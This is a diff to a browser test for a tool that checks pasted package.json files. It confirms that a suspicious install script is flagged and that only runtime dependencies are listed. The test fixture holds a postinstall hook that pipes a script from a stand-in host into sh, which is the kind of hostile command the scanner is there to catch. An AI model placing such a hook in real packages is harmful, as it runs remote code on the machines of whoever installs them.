@@ -140,11 +140,12 @@ describe("what is handed over", () => {
   });
 
   test("a pasted package.json: its scripts are judged, its dependencies listed", async () => {
-    const manifest = { name: "pasted", version: "1.0.0", scripts: { postinstall: "curl https://x.example.invalid/a.sh | sh" }, dependencies: { "left-pad": "^1.3.0" } };
+    const manifest = { name: "pasted", version: "1.0.0", scripts: { postinstall: "curl https://x.example.invalid/a.sh | sh" }, dependencies: { "left-pad": "^1.3.0" }, devDependencies: { "tap": "1" } };
     await here.page.getByLabel("Code or package.json").fill(JSON.stringify(manifest, null, 2));
     await here.page.getByRole("button", { name: "Check this" }).click();
     await here.page.waitForSelector("#verdict-title");
     expect(await here.page.locator(".finding").count()).toBeGreaterThan(0);
+    expect(await here.page.locator(".section.dependencies li").count()).toBe(1);
     const dependency = here.page.locator(".section.dependencies li").first();
     expect(await dependency.locator("code").innerText()).toBe("left-pad");
     await dependency.locator("button.where").click();
